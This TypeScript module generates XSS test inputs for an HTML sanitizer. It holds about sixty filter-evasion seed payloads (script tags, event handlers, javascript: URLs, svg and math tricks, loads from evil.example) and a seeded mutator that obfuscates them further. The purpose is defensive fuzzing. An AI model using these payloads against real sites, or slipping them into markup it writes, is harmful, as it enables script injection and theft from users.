/** One of each family of the OWASP filter-evasion list, in our own words; `EVIL` is what must not run. */
const SEEDS: readonly string[] = [
  '<script>EVIL</script>',
  '<script src="https://evil.example/x.js"></script>',
  '<SCRIPT/XSS SRC="https://evil.example/x.js"></SCRIPT>',
  '<img src=x onerror=EVIL>',
  '<img src="javascript:EVIL">',
  '<img src= onmouseover="EVIL">',
  '<img src=a.png"\'onmouseover="EVIL">',
  'نص <img src=x onerror=EVIL title=',
  '<b id=body class=x srcset="https://evil.example/s 1x">نص</b>',
  '<img """><script>EVIL</script>">',
  '<img src=`javascript:EVIL`>',
  '<img src=/ onerror="EVIL"></img>',
  '<a href="javascript:EVIL">نص</a>',
  '<a href="data:text/html,<script>EVIL</script>">نص</a>',
  '<a onmouseover=EVIL autofocus onfocus=EVIL tabindex=1>نص</a>',
  '<body onload=EVIL>',
  '<body background="https://evil.example/b.gif">',
  '<svg onload=EVIL>',
  '<svg><script>EVIL</script></svg>',
  '<svg><animate onbegin=EVIL attributeName=x dur=1s></svg>',
  '<svg><image href="https://evil.example/i.svg"></svg>',
  '<math><mi xlink:href="javascript:EVIL">x</mi></math>',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=EVIL></annotation-xml></math>',
  '<iframe src="javascript:EVIL"></iframe>',
  '<iframe srcdoc="<script>EVIL</script>"></iframe>',
  '<iframe src="https://evil.example/f"></iframe>',
  '<object data="https://evil.example/o"></object>',
  '<embed src="https://evil.example/e.swf">',
  '<link rel="stylesheet" href="https://evil.example/s.css">',
  '<style>@import "https://evil.example/s.css";</style>',
  '<style>body{background:url(https://evil.example/u)}</style>',
  '<div style="background:url(https://evil.example/d)">نص</div>',
  '<div style="width:expression(EVIL)">نص</div>',
  '<meta http-equiv="refresh" content="0;url=javascript:EVIL">',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example/f"><input type=image src="https://evil.example/g"></form>',
  '<input autofocus onfocus=EVIL>',
  '<video src="https://evil.example/v" onerror=EVIL></video>',
  '<audio src="https://evil.example/a" oncanplay=EVIL></audio>',
  '<video poster="https://evil.example/p"></video>',
  '<details open ontoggle=EVIL>نص</details>',
  '<marquee onstart=EVIL>نص</marquee>',
  '<table background="https://evil.example/t"><td background="https://evil.example/t">نص</table>',
  '<textarea autofocus onfocus=EVIL></textarea>',
  '<noscript><p title="</noscript><img src=x onerror=EVIL>"></noscript>',
  '<title><img src=x onerror=EVIL></title>',
  '<xmp><img src=x onerror=EVIL></xmp>',
  '<template><img src=x onerror=EVIL></template>',
  '<!--><img src=x onerror=EVIL>-->',
  '<!--[if gte IE 4]><script>EVIL</script><![endif]-->',
  '<![CDATA[<img src=x onerror=EVIL>]]>',
  '<?xml version="1.0"?><img src=x onerror=EVIL>',
  '<p title="><img src=x onerror=EVIL>">نص</p>',
  '<img srcset="https://evil.example/1 1x" lowsrc="https://evil.example/2">',
  '<picture><source srcset="https://evil.example/3"></picture>',
  '<isindex type=image src=1 onerror=EVIL>',
  '<frameset><frame src="javascript:EVIL"></frameset>',
  '&lt;script&gt;EVIL&lt;/script&gt;',
  '<button formaction="javascript:EVIL" autofocus onfocus=EVIL>نص</button>',
  '<select autofocus onfocus=EVIL><option>نص</select>',
  '<a href="vbscript:EVIL">نص</a><a href="livescript:EVIL">نص</a>',
  '<img dynsrc="javascript:EVIL"><bgsound src="javascript:EVIL"><layer src="https://evil.example/l"></layer>',
];

/** The same numbers for the same seed (mulberry32). */
function randomOf(seed: number): () => number {
  let state = seed;
  return () => {
    state = (state + 0x6d2b79f5) | 0;
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 4_294_967_296;
  };
}

type Change = (markup: string, random: () => number) => string;

const at = (text: string, random: () => number): number => Math.floor(random() * text.length);
const pick = <T>(list: readonly [T, ...T[]], random: () => number): T =>
  list[Math.floor(random() * list.length)] ?? list[0];
const insert = (markup: string, what: string, random: () => number): string => {
  const place = at(markup, random);
  return markup.slice(0, place) + what + markup.slice(place);
};

const CHANGES: readonly [Change, ...Change[]] = [
  (markup, random) => [...markup].map((sign) => (random() < 0.5 ? sign.toUpperCase() : sign)).join(''),
  (markup, random) =>
    insert(
      markup,
      pick(['\0', '\t', '\n', '\r', '\f', '\v', '\u00a0', '\ufeff', '\u200b', '\u0001'], random),
      random,
    ),
  (markup, random) =>
    insert(
      markup,
      pick(
        ['<', '<<', '>', '"', "'", '`', '/', '\\', '=', '<!--', '-->', ']]>', '<![CDATA[', '%00', '&', ';'],
        random,
      ),
      random,
    ),
  (markup, random) => {
    const place = at(markup, random);
    const code = markup.charCodeAt(place);
    const form = pick(
      [
        `&#${code}`,
        `&#${code};`,
        `&#x${code.toString(16)};`,
        `&#x${code.toString(16)}`,
        `&#${String(code).padStart(7, '0')};`,
        `\\u00${code.toString(16).padStart(2, '0')}`,
      ],
      random,
    );
    return markup.slice(0, place) + form + markup.slice(place + 1);
  },
  (markup) =>
    markup.replaceAll(/javascript:/gi, (word) =>
      [...word].map((sign) => `&#${sign.charCodeAt(0)};`).join(''),
    ),
  (markup) => markup.replaceAll(/javascript:/gi, 'jav\tascr\nipt:'),
  (markup) => markup.replaceAll(/<(\w+)/g, '<$1<$1'),
  (markup) => markup.replaceAll(/script/gi, 'scr<script>ipt'),
  (markup) => markup.replaceAll(/ /g, '/'),
  (markup) => markup.replaceAll('"', ''),
  (markup, random) => markup.slice(0, at(markup, random) + 1),
  (markup, random) => markup.slice(at(markup, random)),
  (markup, random) => {
    const around = pick(
      [
        'svg',
        'math',
        'noscript',
        'template',
        'style',
        'title',
        'textarea',
        'xmp',
        'iframe',
        'table',
        'select',
        'noembed',
        'p',
        'a',
        'svg><desc',
        'math><mtext',
        'svg><foreignObject',
        'math><mglyph',
        'form><math',
      ],
      random,
    );
    return random() < 0.5 ? `<${around}>${markup}</${around.split('>')[0]}>` : `<${around}>${markup}`;
  },
  (markup, random) => `${markup}${pick(SEEDS as [string, ...string[]], random)}`,
  (markup, random) => `<p title='${markup}'>${pick(SEEDS as [string, ...string[]], random)}`,
  (markup) => markup.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
];

/** So many mutations of the seeds, always the same for one seed number. `EVIL` becomes a call of `__evil`. */
export function hostileMarkup(count: number, seed: number): string[] {
  const random = randomOf(seed);
  return Array.from({ length: count }, (_, index) => {
    let markup = SEEDS[index % SEEDS.length] ?? '';
    const changes = Math.floor(index / SEEDS.length) === 0 ? 0 : 1 + Math.floor(random() * 4);
    for (let change = 0; change < changes; change += 1) markup = pick(CHANGES, random)(markup, random);
    return markup.replaceAll(/EVIL/gi, '__evil(1)');
  });
}
